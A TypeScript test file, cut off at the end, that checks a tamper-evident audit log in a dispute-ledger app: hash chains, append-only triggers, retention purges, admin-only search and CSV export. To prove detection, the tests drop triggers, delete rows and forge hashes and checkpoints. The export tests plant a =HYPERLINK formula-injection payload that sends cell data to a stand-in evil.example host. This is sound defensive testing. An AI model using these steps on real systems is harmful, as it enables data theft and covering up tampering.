/**
 * The audit log on both engines: hash-chained, append-only by trigger, tamper-evident when the
 * triggers are gone, serialised under concurrent writes, purged only past retention, searched and
 * exported only by the audit administrator, and exported with formula-injection guarded cells.
 */
import { randomBytes } from 'node:crypto';
import { appendFileSync, existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { FastifyInstance } from 'fastify';
import { Migrator, sql } from 'kysely';
import pg from 'pg';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import type { Role } from '../accounts/roles.js';
import { builtInKinds } from '../areas/index.js';
import { auditCommand } from '../cli/audit.js';
import { todayInChina } from '../core/dates.js';
import { openDb, type Db, type DbConfig } from '../db/connect.js';
import { isSqlite } from '../db/dialect.js';
import { migrate } from '../db/migrate.js';
import * as core0001 from '../db/migrations/0001_core.js';
import * as reports0002 from '../db/migrations/0002_reports.js';
import * as accounts0003 from '../db/migrations/0003_accounts.js';
import { buildApp } from '../http/app.js';
import { checkSummaries } from '../indicators/monthly/store.js';
import { SESSION_COOKIE } from '../http/auth.js';
import type { OrgUnit } from '../org/repository.js';
import type { Actor } from '../org/scope.js';
import { testContext, type TestContext } from '../testing/context.js';
import { appErrorOf } from '../testing/errors.js';
import { smallTown, type Fixture } from '../testing/fixtures.js';
import { signInNewUser } from '../testing/http.js';
import { auditMacKeys } from '../security/crypto.js';
import { bindAuditChain, keyAuditChain, writeAudit } from './audit.js';
import { ChainKey, GENESIS_HASH, rowHash, type ChainedFields } from './chain.js';
import { CHECKPOINT_FILE, type Checkpoint } from './checkpoint.js';
import { auditCsv, searchAudit } from './query.js';
import { latestPurgeDate, purgeAuditLog, setRetentionDays } from './retention.js';
import { verifyAuditChain } from './verify.js';

const clerk: Actor = { userId: 'u-clerk', name: '王干事', role: 'townOffice', ip: '10.0.0.8' };

const dispute = (orgId: string, title = '两户因宅基地边界发生争执') => ({
  orgId,
  date: '2025-03-08',
  title,
  source: 'monthlyScreening',
  category: 'neighbour',
  status: 'registered',
});

const errorOf = async (promise: Promise<unknown>): Promise<Error> => {
  try {
    await promise;
  } catch (error) {
    if (error instanceof Error) return error;
    throw error;
  }
  throw new Error('expected the call to fail');
};

const rowsOf = (ctx: TestContext) => ctx.db.kysely.selectFrom('audit_log').selectAll().orderBy('id').execute();

/** What an attacker with database access does first: switch the triggers off. */
async function dropTriggersOn(db: Db) {
  if (isSqlite(db.kysely)) {
    await sql`DROP TRIGGER audit_log_no_update`.execute(db.kysely);
    await sql`DROP TRIGGER audit_log_no_delete`.execute(db.kysely);
  } else {
    await sql`ALTER TABLE audit_log DISABLE TRIGGER USER`.execute(db.kysely);
  }
}
const dropTriggers = (ctx: TestContext) => dropTriggersOn(ctx.db);

/** Captures what auditCommand prints. */
async function runCli(ctx: TestContext, args: string[]) {
  const out: string[] = [];
  const log = vi.spyOn(console, 'log').mockImplementation((...a: unknown[]) => void out.push(a.join(' ')));
  const error = vi.spyOn(console, 'error').mockImplementation((...a: unknown[]) => void out.push(a.join(' ')));
  try {
    const code = await auditCommand(ctx, args);
    return { code, output: out.join('\n') };
  } finally {
    log.mockRestore();
    error.mockRestore();
  }
}

describe('the chain and the triggers', () => {
  let ctx: TestContext;
  let f: Fixture;

  beforeAll(async () => {
    ctx = await testContext();
    f = await smallTown(ctx);
  });
  afterAll(() => (ctx as TestContext | undefined)?.close()); // unset when beforeAll failed

  it("links every write to the one before in its chain (its town's, or the global one); verify says OK with the row count", async () => {
    const office = await f.as('townOffice');
    for (const title of ['甲户与乙户宅基地纠纷', '丙户与丁户土地纠纷', '戊户与己户邻里纠纷']) await ctx.ledger.create(office, 'dispute', dispute(f.villageA.id, title));
    await writeAudit(ctx.db.kysely, clerk, { action: 'login_failed', after: { username: 'nobody' } });

    const rows = await rowsOf(ctx);
    expect(rows.length).toBeGreaterThanOrEqual(4);
    // The records' rows are in 甲镇's chain; the failed sign-in, which belongs to no town, in the global one.
    expect(rows.filter((r) => r.action === 'create' && r.kind === 'dispute').map((r) => r.chain)).toEqual([f.town.id, f.town.id, f.town.id]);
    expect(rows.find((r) => r.action === 'login_failed')?.chain).toBe('global');
    for (const chain of new Set(rows.map((r) => r.chain))) {
      const own = rows.filter((r) => r.chain === chain);
      expect(own[0]?.prev_hash).toBe(GENESIS_HASH);
      own.forEach((row, i) => {
        expect(row.seq).toBe(i + 1);
        expect(row.hash).toMatch(/^[0-9a-f]{64}$/);
        if (i > 0) expect(row.prev_hash).toBe(own[i - 1]?.hash);
      });
    }
    const newest = rows[rows.length - 1];
    expect(await verifyAuditChain(ctx.db)).toEqual({ ok: true, rows: rows.length, chains: new Set(rows.map((r) => r.chain)).size, head: { id: newest?.id, hash: newest?.hash } });

    const cli = await runCli(ctx, ['verify']);
    expect(cli.code).toBe(0);
    expect(cli.output).toContain('OK');
    expect(cli.output).toContain(`共 ${rows.length} 条`);
  });

  it('refuses an UPDATE in the database itself, and the row stays as it was', async () => {
    const [row] = await rowsOf(ctx);
    if (!row) throw new Error('no audit rows');
    const error = await errorOf(sql`update audit_log set after = ${'{"status":"resolved"}'} where id = ${row.id}`.execute(ctx.db.kysely));
    expect(error.message).toContain('审计日志不可修改');
    const error2 = await errorOf(ctx.db.kysely.updateTable('audit_log').set({ actor_name: '别人' }).execute());
    expect(error2.message).toContain('审计日志不可修改');
    expect((await rowsOf(ctx))[0]).toEqual(row);
  });

  it('refuses a DELETE of a row inside the retention period (and TRUNCATE on PostgreSQL)', async () => {
    const before = await rowsOf(ctx);
    const error = await errorOf(sql`delete from audit_log where id = ${before[1]?.id ?? 0}`.execute(ctx.db.kysely));
    expect(error.message).toContain('保存期内的审计日志不可删除');
    if (!isSqlite(ctx.db.kysely)) expect((await errorOf(sql`truncate audit_log`.execute(ctx.db.kysely))).message).toContain('审计日志不可清空');
    expect(await rowsOf(ctx)).toEqual(before);
  });

  it('keeps the retention period at 180 days or more, in the service and in the database', async () => {
    const system = { userId: null, name: '系统', role: 'system', ip: null } as const;
    const error = await appErrorOf(setRetentionDays(ctx.db, system, 90));
    expect(error.field).toBe('days');
    expect(error.message).toContain('180');
    await expect(ctx.db.kysely.updateTable('audit_setting').set({ retention_days: 90 }).execute()).rejects.toThrow();
    expect((await ctx.db.kysely.selectFrom('audit_setting').select('retention_days').executeTakeFirstOrThrow()).retention_days).toBe(180);
    expect(await verifyAuditChain(ctx.db)).toMatchObject({ ok: true });
  });

  it('keeps valid chains under concurrent writes, each numbered without gaps', async () => {
    const office = await f.as('townOffice');
    const before = (await rowsOf(ctx)).length;
    await Promise.all([
      ...Array.from({ length: 20 }, (_, i) => ctx.ledger.create(office, 'dispute', dispute(f.villageA.id, `并发登记的纠纷第${i + 1}件`))),
      ...Array.from({ length: 5 }, (_, i) => writeAudit(ctx.db.kysely, clerk, { action: 'login_failed', after: { username: `guess${i}` } })),
    ]);
    const rows = await rowsOf(ctx);
    expect(rows.length).toBe(before + 25);
    expect(new Set(rows.map((r) => r.id)).size).toBe(rows.length);
    for (const chain of new Set(rows.map((r) => r.chain))) {
      const own = rows.filter((r) => r.chain === chain);
      expect(own.map((r) => r.seq)).toEqual(own.map((_, i) => i + 1));
      expect(new Set(own.map((r) => r.prev_hash)).size).toBe(own.length);
    }
    expect(await verifyAuditChain(ctx.db)).toMatchObject({ ok: true, rows: rows.length });
  });

  it('leaves no gap in the chain when the transaction around an audit write rolls back (an id may be skipped)', async () => {
    const before = await rowsOf(ctx);
    await expect(
      ctx.db.kysely.transaction().execute(async (trx) => {
        await writeAudit(trx, clerk, { action: 'update', kind: 'dispute', recordId: 'r1' });
        throw new Error('business rule failed after the audit row');
      }),
    ).rejects.toThrow('business rule failed');
    await writeAudit(ctx.db.kysely, clerk, { action: 'update', kind: 'dispute', recordId: 'r2' });
    const rows = await rowsOf(ctx);
    expect(rows.length).toBe(before.length + 1);
    const globalSeq = Math.max(...before.filter((r) => r.chain === 'global').map((r) => r.seq));
    expect(rows[rows.length - 1]).toMatchObject({ chain: 'global', seq: globalSeq + 1, record_id: 'r2' });
    expect(await verifyAuditChain(ctx.db)).toMatchObject({ ok: true });
  });
});

describe('tampering by someone with database access', () => {
  let ctx: TestContext;

  beforeAll(async () => {
    ctx = await testContext();
    for (let i = 1; i <= 6; i++) await writeAudit(ctx.db.kysely, clerk, { action: 'update', kind: 'dispute', recordId: `r${i}`, before: { status: 'registered' }, after: { status: 'mediating' } });
    await dropTriggers(ctx);
  });
  afterAll(() => (ctx as TestContext | undefined)?.close()); // unset when beforeAll failed

  it('catches an edited row and names it; undoing the edit makes the chain whole again', async () => {
    const row = (await rowsOf(ctx))[2];
    if (!row) throw new Error('no row 3');
    await sql`update audit_log set after = ${'{"status":"resolved"}'} where id = ${row.id}`.execute(ctx.db.kysely);

    const report = await verifyAuditChain(ctx.db);
    expect(report).toMatchObject({ ok: false, firstBad: { id: row.id } });
    if (report.ok) return;
    expect(report.firstBad.reason).toContain('被修改');
    const cli = await runCli(ctx, ['verify']);
    expect(cli.code).toBe(1);
    expect(cli.output).toContain(`记录编号 ${row.id}`);

    await sql`update audit_log set after = ${row.after} where id = ${row.id}`.execute(ctx.db.kysely);
    expect(await verifyAuditChain(ctx.db)).toMatchObject({ ok: true, rows: 6 });
  });

  it('catches an edit whose row hash was recomputed without the key, at that row', async () => {
    const rows = await rowsOf(ctx);
    const row = rows[1];
    if (!row) throw new Error('no row 2');
    const { rowHash } = await import('./chain.js');
    const forged = { ...row, actor_name: '别人' };
    await sql`update audit_log set actor_name = ${forged.actor_name}, hash = ${rowHash(row.prev_hash ?? '', forged)} where id = ${row.id}`.execute(ctx.db.kysely);
    const report = await verifyAuditChain(ctx.db);
    expect(report).toMatchObject({ ok: false, firstBad: { id: row.id } });
    expect(!report.ok && report.firstBad.reason).toContain('不带密钥');
    await sql`update audit_log set actor_name = ${row.actor_name}, hash = ${row.hash} where id = ${row.id}`.execute(ctx.db.kysely);
    expect(await verifyAuditChain(ctx.db)).toMatchObject({ ok: true });
  });

  it('catches a deleted row in the middle, naming the row after the gap', async () => {
    const rows = await rowsOf(ctx);
    const victim = rows[3];
    if (!victim) throw new Error('no row 4');
    await sql`delete from audit_log where id = ${victim.id}`.execute(ctx.db.kysely);

    const report = await verifyAuditChain(ctx.db);
    expect(report).toMatchObject({ ok: false, firstBad: { id: victim.id + 1 } });
    if (report.ok) return;
    expect(report.firstBad.reason).toContain('删除');
    expect((await runCli(ctx, ['verify'])).code).toBe(1);
  });

  it('catches the oldest rows deleted without a purge', async () => {
    await sql`delete from audit_log where id = 1`.execute(ctx.db.kysely);
    expect(await verifyAuditChain(ctx.db)).toMatchObject({ ok: false, firstBad: { id: 2 } });
  });
});

describe('retention and purge', () => {
  let ctx: TestContext;
  const DAY = 86_400_000;
  const daysAgo = (n: number) => new Date(Date.now() - n * DAY);
  const dateOf = (d: Date) => d.toISOString().slice(0, 10);

  beforeAll(async () => {
    ctx = await testContext();
    // Rows from last year, written with the clock set back.
    vi.useFakeTimers({ toFake: ['Date'] });
    vi.setSystemTime(daysAgo(400));
    for (let i = 1; i <= 3; i++) await writeAudit(ctx.db.kysely, clerk, { action: 'create', kind: 'dispute', recordId: `old${i}` });
    vi.useRealTimers();
    for (let i = 1; i <= 2; i++) await writeAudit(ctx.db.kysely, clerk, { action: 'create', kind: 'dispute', recordId: `new${i}` });
  });
  afterEach(() => vi.useRealTimers());
  afterAll(() => (ctx as TestContext | undefined)?.close()); // unset when beforeAll failed

  it('refuses a date inside the retention period and deletes nothing', async () => {
    const latest = await latestPurgeDate(ctx.db);
    expect(latest <= dateOf(daysAgo(179))).toBe(true);
    const tooRecent = dateOf(daysAgo(30));
    const error = await appErrorOf(purgeAuditLog(ctx.db, clerk, tooRecent));
    expect(error.field).toBe('before');
    expect(error.message).toContain('180');

    const cli = await runCli(ctx, ['purge', '--before', tooRecent]);
    expect(cli.code).toBe(2);
    expect(cli.output).toContain('保存期');
    expect((await rowsOf(ctx)).length).toBe(5);
  });

  it('deletes only rows past retention, records the purge, and the rest still verifies', async () => {
    const cli = await runCli(ctx, ['purge', '--before', dateOf(daysAgo(200))]);
    expect(cli.code, cli.output).toBe(0);
    const rows = await rowsOf(ctx);
    expect(rows.map((r) => r.record_id)).toEqual(['new1', 'new2', null]);
    const purge = rows[2];
    expect(purge).toMatchObject({ id: 6, seq: 6, action: 'purge_audit', actor_name: '系统（命令行）' });
    expect(JSON.parse(purge?.after ?? '{}')).toMatchObject({ deleted: 3, chains: { global: { throughSeq: 3, throughId: 3, deleted: 3 } }, anchors: { global: rows[0]?.prev_hash } });
    expect(await verifyAuditChain(ctx.db)).toEqual({ ok: true, rows: 3, chains: 1, head: { id: 6, hash: purge?.hash } });
  });

  it('still catches the oldest remaining rows deleted behind the purge', async () => {
    await dropTriggers(ctx);
    await sql`delete from audit_log where id = 4`.execute(ctx.db.kysely);
    const report = await verifyAuditChain(ctx.db);
    expect(report).toMatchObject({ ok: false, firstBad: { id: 5 } });
  });
});

describe('search and export', () => {
  let ctx: TestContext;
  let f: Fixture;
  let app: FastifyInstance;
  const PASSWORD = 'Fazhi#2025-test';
  let n = 0;

  async function signInAs(role: Role, unit: OrgUnit | { id: string; name: string }): Promise<string> {
    n += 1;
    const username = `audit.${role.toLowerCase()}.${n}`;
    return signInNewUser(app, ctx.accounts, role, unit, { username, displayName: `${unit.name}${role}${n}`, password: PASSWORD });
  }
  const get = (token: string | undefined, url: string) => app.inject({ method: 'GET', url, ...(token ? { cookies: { [SESSION_COOKIE]: token } } : {}) });

  const evil = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")';
  let rootAdmin: string;
  let townAdmin: string;

  beforeAll(async () => {
    ctx = await testContext();
    f = await smallTown(ctx);
    app = await buildApp(ctx);
    await app.ready();
    await writeAudit(ctx.db.kysely, { ...clerk, name: evil }, { action: 'update', kind: 'dispute', recordId: 'rx', orgId: f.villageA.id, before: { title: '+1' }, after: { title: '@SUM(A1:A9)' } });
    await writeAudit(ctx.db.kysely, clerk, { action: 'update', kind: 'dispute', recordId: 'ry', orgId: f.otherVillage.id, after: { title: '-2+3' } });
    rootAdmin = await signInAs('auditAdmin', { id: f.system.orgId, name: '自治区' });
    townAdmin = await signInAs('auditAdmin', f.town);
  });
  afterAll(async () => {
    // Unset when beforeAll failed.
    await (app as FastifyInstance | undefined)?.close();
    await (ctx as TestContext | undefined)?.close();
  });

  it('lets only the audit administrator search or export: 401 signed out, 403 for every other role', async () => {
    for (const url of ['/api/audit', '/api/audit/export']) expect((await get(undefined, url)).statusCode).toBe(401);
    for (const role of ['systemAdmin', 'securityAdmin', 'townOffice', 'leader', 'countyReviewer'] as const) {
      const token = await signInAs(role, role === 'countyReviewer' ? f.county : f.town);
      for (const url of ['/api/audit', '/api/audit/export']) {
        const res = await get(token, url);
        expect(res.statusCode, `${role} ${url}`).toBe(403);
        expect(res.json()).toMatchObject({ error: { id: 'forbidden' } });
      }
    }
    expect((await get(rootAdmin, '/api/audit')).statusCode).toBe(200);
  });

  it('searches newest first with filters and pages', async () => {
    const res = await get(rootAdmin, '/api/audit?action=update&kind=dispute&pageSize=1');
    expect(res.statusCode, res.body).toBe(200);
    const body = res.json<{ items: Array<{ recordId: string; actionLabel: string; after: unknown }>; total: number; page: number }>();
    expect(body.total).toBe(2);
    expect(body.items).toHaveLength(1);
    expect(body.items[0]).toMatchObject({ recordId: 'ry', actionLabel: '修改', after: { title: '-2+3' } });
    const page2 = (await get(rootAdmin, '/api/audit?action=update&kind=dispute&pageSize=1&page=2')).json<{ items: Array<{ recordId: string }> }>();
    expect(page2.items.map((i) => i.recordId)).toEqual(['rx']);

    const byActor = (await get(rootAdmin, `/api/audit?actor=${encodeURIComponent('HYPERLINK')}`)).json<{ items: Array<{ recordId: string }> }>();
    expect(byActor.items.map((i) => i.recordId)).toEqual(['rx']);
    const byOrg = (await get(rootAdmin, `/api/audit?org=${f.otherTown.id}`)).json<{ items: Array<{ recordId: string }> }>();
    expect(byOrg.items.map((i) => i.recordId)).toEqual(['ry']);
    const today = todayInChina();
    const none = (await get(rootAdmin, `/api/audit?from=2020-01-01&to=2020-12-31`)).json<{ total: number }>();
    expect(none.total).toBe(0);
    expect((await get(rootAdmin, `/api/audit?from=2020-01-01&to=${today}&recordId=rx`)).json<{ total: number }>().total).toBe(1);
  });

  it('names the field of a bad filter', async () => {
    const res = await get(rootAdmin, '/api/audit?from=2025-13-01');
    expect(res.statusCode).toBe(400);
    expect(res.json()).toMatchObject({ error: { id: 'validation', field: 'from' } });
    expect(res.json<{ error: { message: string } }>().error.message).toContain('「开始日期」');
    const nul = await get(rootAdmin, '/api/audit?actor=%00');
    expect(nul.statusCode).toBe(400);
    expect(nul.json()).toMatchObject({ error: { id: 'validation', field: 'actor' } });
    expect(await get(rootAdmin, '/api/audit/export?to=2025-02-30').then((r) => r.json<unknown>())).toMatchObject({ error: { id: 'validation', field: 'to' } });
  });

  it('shows an administrator below the root only rows about its own subtree', async () => {
    const ids = (await get(townAdmin, '/api/audit?kind=dispute')).json<{ items: Array<{ recordId: string }> }>().items.map((i) => i.recordId);
    expect(ids).toEqual(['rx']);
    expect((await get(townAdmin, `/api/audit?org=${f.otherTown.id}`)).statusCode).toBe(404);
  });

  it('exports CSV for Excel: BOM, Chinese header, formula cells neutralised; the export is audited', async () => {
    const res = await get(rootAdmin, '/api/audit/export?kind=dispute');
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(String(res.headers['content-disposition'])).toContain("filename*=UTF-8''");
    expect(res.body.startsWith('\uFEFF编号,时间（北京时间）,操作人')).toBe(true);
    const lines = res.body.split('\r\n').filter(Boolean);
    expect(lines).toHaveLength(3);
    expect(lines[2]).toContain(`"'${evil.replace(/"/g, '""')}"`);
    expect(res.body).not.toMatch(/(^|,)"?=HYPERLINK/m);
    const exported = await ctx.db.kysely.selectFrom('audit_log').selectAll().where('action', '=', 'export_audit').execute();
    expect(exported).toHaveLength(1);
    expect(JSON.parse(exported[0]?.after ?? '{}')).toEqual({ kind: 'dispute' });
    expect(await verifyAuditChain(ctx.db)).toMatchObject({ ok: true });
  });

  it('neutralises cells in the CSV the service produces, whatever field holds the formula', async () => {
    let csv = '';
    for await (const chunk of auditCsv(ctx.db, f.system, { recordId: 'rx' })) csv += chunk;
    const cells = csv.split('\r\n')[1] ?? '';
    expect(cells).toContain(`"'${evil.replace(/"/g, '""')}"`);
    // JSON values start with { so they are safe as they are; the cells that start with = + - @ are not.
    expect(cells).toContain('"{""title"":""+1""}"');
    const found = await searchAudit(ctx.db, f.system, { recordId: 'rx' });
    expect(found.items[0]?.actorName).toBe(evil);
  });
});

describe('migrating a database that already has an audit log', () => {
  const dir = mkdtempSync(join(tmpdir(), 'fazhi-audit-legacy-'));
  const databaseUrl = process.env.DATABASE_URL || undefined;
  const schema = `a_${randomBytes(6).toString('hex')}`;
  const admin = async (statement: string) => {
    const client = new pg.Client({ connectionString: databaseUrl });
    await client.connect();
    await client.query(statement);
    await client.end();
  };
  const config: DbConfig = databaseUrl ? { databaseUrl, schema } : { sqlitePath: join(dir, 'legacy.db') };

  beforeAll(async () => {
    if (databaseUrl) await admin(`CREATE SCHEMA ${schema}`);
  });
  afterAll(async () => {
    if (databaseUrl) await admin(`DROP SCHEMA ${schema} CASCADE`);
    rmSync(dir, { recursive: true, force: true });
  });

  it('chains the rows already there (id gaps and all), then carries on without gaps', async () => {
    const db = openDb(config);
    try {
      // The schema as released before the chain: migrations 0001–0003 only.
      const before = new Migrator({
        db: db.kysely,
        provider: { getMigrations: async () => ({ '0001_core': core0001, '0002_reports': reports0002, '0003_accounts': accounts0003 }) },
        ...(databaseUrl ? { migrationTableSchema: schema } : {}),
      });
      const { error } = await before.migrateToLatest();
      expect(error).toBeUndefined();
      // A rolled-back transaction on PostgreSQL leaves a gap in the sequence: ids 1, 2, 5.
      for (const id of [1, 2, 5]) {
        await sql`insert into audit_log (id, at, actor_id, actor_name, ip, action, kind, record_id, org_id, before, after)
          values (${id}, ${`2025-01-0${id}T08:00:00.000Z`}, 'u1', '老用户', null, 'login', null, null, null, null, null)`.execute(db.kysely);
      }

      await migrate(db, builtInKinds);
      // What createContext does with the key: the plain chain is kept and one keyed row follows it.
      bindAuditChain(db.kysely, { key: new ChainKey(auditMacKeys(randomBytes(32)).chain, 'sha256') });
      const unkeyed = await verifyAuditChain(db);
      expect(unkeyed).toMatchObject({ ok: false, firstBad: { id: 5 } });
      expect(!unkeyed.ok && unkeyed.firstBad.reason).toContain('没有一条用审计密钥计算的哈希');
      // With a checkpoint outside the database the chain was keyed before: a plain log now is a rewrite, never keyed over.
      expect(await keyAuditChain(db.kysely, async () => true)).toBe(false);
      expect(await keyAuditChain(db.kysely, async () => false)).toBe(true);
      expect(await keyAuditChain(db.kysely, async () => false)).toBe(false);
      expect(await verifyAuditChain(db)).toMatchObject({ ok: true, rows: 4, head: { id: 6 } });
      await writeAudit(db.kysely, clerk, { action: 'logout' });
      const rows = await db.kysely.selectFrom('audit_log').select(['id', 'action', 'prev_hash', 'hash']).orderBy('id').execute();
      expect(rows.map((r) => r.id)).toEqual([1, 2, 5, 6, 7]);
      expect(rows[3]?.action).toBe('key_audit_chain');
      expect(rows[0]?.prev_hash).toBe(GENESIS_HASH);
      expect(await verifyAuditChain(db)).toMatchObject({ ok: true, rows: 5 });

      // Someone with the database but not the key appends a row with the public plain hash: the
      // next start does not key over it (a keyed row exists), and verify reports it.
      const head = await db.kysely.selectFrom('audit_log').selectAll().orderBy('id', 'desc').limit(1).executeTakeFirstOrThrow();
      const forged = { id: 8, at: '2025-02-01T08:00:00.000Z', actor_id: 'u1', actor_name: '老用户', ip: null, action: 'login', kind: null, record_id: null, org_id: null, before: null, after: null };
      await db.kysely.insertInto('audit_log').values({ ...forged, prev_hash: head.hash as string, hash: rowHash(head.hash as string, forged) }).execute();
      expect(await keyAuditChain(db.kysely, async () => false)).toBe(false);
      expect(await verifyAuditChain(db)).toMatchObject({ ok: false, firstBad: { id: 8 } });
      await dropTriggersOn(db);
      await sql`delete from audit_log where id = 8`.execute(db.kysely);

      // After the legacy rows, a gap is a deletion again.
      await writeAudit(db.kysely, clerk, { action: 'logout' });
      await writeAudit(db.kysely, clerk, { action: 'logout' });
      await sql`delete from audit_log where id = 8`.execute(db.kysely);
      expect(await verifyAuditChain(db)).toMatchObject({ ok: false, firstBad: { id: 9 } });
    } finally {
      await db.close();
    }
  });
});

describe('the keyed chain, anchored by checkpoints outside the database', () => {
  let ctx: TestContext;
  const ROWS = 30;

  beforeEach(async () => {
    ctx = await testContext();
    for (let i = 1; i <= ROWS; i++) await writeAudit(ctx.db.kysely, clerk, { action: 'update', kind: 'dispute', recordId: `r${i}`, after: { status: 'mediating' } });
  });
  afterEach(() => (ctx as TestContext | undefined)?.close()); // unset when beforeEach failed

  const checkpointFile = () => join(ctx.auditAnchor.dir, CHECKPOINT_FILE);
  const verifyWithAnchor = async () => verifyAuditChain(ctx.db, (await ctx.auditAnchor.read()).checkpoints);

  /** Rewrites row `id` with `change`, then gives it and every later row the hash `formula` makes: a careful forger. */
  async function rewriteFrom(id: number, change: { actor_name: string }, formula: (prev: string, row: ChainedFields) => string) {
    let prev = (await ctx.db.kysely.selectFrom('audit_log').select('hash').where('id', '=', id - 1).executeTakeFirstOrThrow()).hash ?? '';
    for (const row of await ctx.db.kysely.selectFrom('audit_log').selectAll().where('id', '>=', id).orderBy('id').execute()) {
      const content = row.id === id ? { ...row, ...change } : row;
      const hash = formula(prev, content);
      await sql`update audit_log set actor_name = ${content.actor_name}, prev_hash = ${prev}, hash = ${hash} where id = ${row.id}`.execute(ctx.db.kysely);
      prev = hash;
    }
  }

  it('reports the newest 20 rows deleted (triggers dropped first) as truncation, against the last checkpoint', async () => {
    const written = await runCli(ctx, ['checkpoint']);
    expect(written.code, written.output).toBe(0);
    expect(written.output).toContain(`共 ${ROWS} 条，最新编号 ${ROWS}`);
    const line = JSON.parse(readFileSync(checkpointFile(), 'utf8').trim()) as Checkpoint;
    const newest = await ctx.db.kysely.selectFrom('audit_log').select('hash').where('id', '=', ROWS).executeTakeFirstOrThrow();
    expect(line).toMatchObject({ v: 2, rows: ROWS, lastId: ROWS, reason: 'command', heads: [['global', ROWS, ROWS, newest.hash]] });
    expect(line.alg).toMatch(/^hmac-(sha256|sm3)$/);

    await dropTriggers(ctx);
    await sql`delete from audit_log where id > ${ROWS - 20}`.execute(ctx.db.kysely);
    // The chain itself is whole: only the checkpoint shows what is missing.
    expect(await verifyAuditChain(ctx.db)).toMatchObject({ ok: true, rows: ROWS - 20 });
    const report = await verifyWithAnchor();
    expect(report).toMatchObject({ ok: false, firstBad: { id: ROWS, chain: 'global' } });
    expect(!report.ok && report.firstBad.reason).toContain('截断');
    expect(!report.ok && report.firstBad.reason).toContain(`第 ${ROWS - 19} 至 ${ROWS} 条`);

    const cli = await runCli(ctx, ['verify']);
    expect(cli.code).toBe(1);
    expect(cli.output).toContain(`最近的检查点（${checkpointFile()}）`);
    expect(cli.output).toContain('审计日志被截断');
  });

  it('fails a rewrite that recomputed every later hash with the old unkeyed formula, naming the rewritten row', async () => {
    await dropTriggers(ctx);
    await rewriteFrom(12, { actor_name: '别人' }, rowHash);
    const report = await verifyAuditChain(ctx.db);
    expect(report).toMatchObject({ ok: false, firstBad: { id: 12 } });
    expect(!report.ok && report.firstBad.reason).toContain('不是用审计密钥计算的');
    expect((await runCli(ctx, ['verify'])).code).toBe(1);
  });

  it('catches even a rewrite recomputed with the key, at the checkpoint taken before it', async () => {
    await ctx.auditAnchor.checkpoint('command');
    await dropTriggers(ctx);
    const key = new ChainKey(auditMacKeys(Buffer.from(ctx.config.key ?? '', 'hex')).chain, ctx.cipher.algorithm === 'sm4' ? 'sm3' : 'sha256');
    await rewriteFrom(12, { actor_name: '别人' }, (prev, row) => key.hash(prev, row));
    expect(await verifyAuditChain(ctx.db)).toMatchObject({ ok: true });
    const report = await verifyWithAnchor();
    expect(report).toMatchObject({ ok: false, firstBad: { id: ROWS } });
    expect(!report.ok && report.firstBad.reason).toContain('改写');
  });

  it('reports a forged checkpoint (bad signature) and does not compare with it', async () => {
    const real = await ctx.auditAnchor.checkpoint('command');
    if (!real) throw new Error('no checkpoint written');
    expect((await runCli(ctx, ['verify'])).code).toBe(0);
    // Someone who deleted rows writes a checkpoint that agrees with what is left.
    await dropTriggers(ctx);
    await sql`delete from audit_log where id > 10`.execute(ctx.db.kysely);
    const head = await ctx.db.kysely.selectFrom('audit_log').select('hash').where('id', '=', 10).executeTakeFirstOrThrow();
    appendFileSync(checkpointFile(), `${JSON.stringify({ ...real, at: new Date().toISOString(), reason: 'restore', rows: 10, lastId: 10, head: head.hash })}\n`);

    const anchor = await ctx.auditAnchor.read();
    expect(anchor.forged).toEqual([expect.stringContaining('第 2 行的签名不符')]);
    expect(anchor.checkpoints).toEqual([real]);
    const cli = await runCli(ctx, ['verify']);
    expect(cli.code).toBe(1);
    expect(cli.output).toContain('签名不符');
    expect(cli.output).toContain('审计日志被截断');
  });

  it('reports a genuine old restore checkpoint appended again, and still names the truncation', async () => {
    // A genuine 'restore' line (as any restore writes), then rows, then a later checkpoint.
    const restore = await ctx.auditAnchor.checkpoint('restore');
    if (!restore) throw new Error('no checkpoint written');
    for (let i = 0; i < 20; i++) await writeAudit(ctx.db.kysely, clerk, { action: 'logout' });
    const later = await ctx.auditAnchor.checkpoint('command');
    if (!later) throw new Error('no checkpoint written');
    expect((await runCli(ctx, ['verify'])).code).toBe(0);
    // Someone deletes the newest rows and replays the old restore line, which would start the comparison afresh.
    await dropTriggers(ctx);
    await sql`delete from audit_log where id > ${restore.lastId}`.execute(ctx.db.kysely);
    appendFileSync(checkpointFile(), `${JSON.stringify(restore)}\n`);

    const anchor = await ctx.auditAnchor.read();
    expect(anchor.forged).toEqual([expect.stringContaining('接不上')]);
    expect(anchor.checkpoints).toEqual([restore, later]);
    const cli = await runCli(ctx, ['verify']);
    expect(cli.code).toBe(1);
    expect(cli.output).toContain('审计日志被截断');
  });

  it('writes a checkpoint by itself after every hundred appends and at shutdown', async () => {
    for (let i = 0; i < 100; i++) await writeAudit(ctx.db.kysely, clerk, { action: 'logout' });
    await vi.waitFor(() => expect(existsSync(checkpointFile())).toBe(true));
    await vi.waitFor(async () => expect((await ctx.auditAnchor.read()).checkpoints.map((c) => c.reason)).toEqual(['appends']));
    await writeAudit(ctx.db.kysely, clerk, { action: 'logout' });
    await ctx.auditAnchor.close();
    const { checkpoints, forged } = await ctx.auditAnchor.read();
    expect(forged).toEqual([]);
    // The hundredth append of this context (setup's included) asks for one; it records what has committed by then.
    expect(checkpoints.map((c) => c.reason)).toEqual(['appends', 'shutdown']);
    expect(checkpoints[0]?.lastId).toBeGreaterThanOrEqual(100);
    expect(checkpoints[1]).toMatchObject({ rows: ROWS + 101, lastId: ROWS + 101 });
    expect(await verifyWithAnchor()).toMatchObject({ ok: true, rows: ROWS + 101 });
  });
});

describe('one chain per town', () => {
  let ctx: TestContext;
  let f: Fixture;
  const disputeKind = () => {
    const kind = builtInKinds.find((k) => k.code === 'dispute');
    if (!kind) throw new Error('no dispute kind');
    return kind;
  };
  const make = (unit: OrgUnit, title: string) => ctx.ledger.create(f.system, 'dispute', dispute(unit.id, title));
  const auditRowOf = (recordId: string, action = 'create') =>
    ctx.db.kysely.selectFrom('audit_log').selectAll().where('record_id', '=', recordId).where('action', '=', action).orderBy('id', 'desc').limit(1).executeTakeFirstOrThrow();

  beforeEach(async () => {
    ctx = await testContext();
    f = await smallTown(ctx);
  });
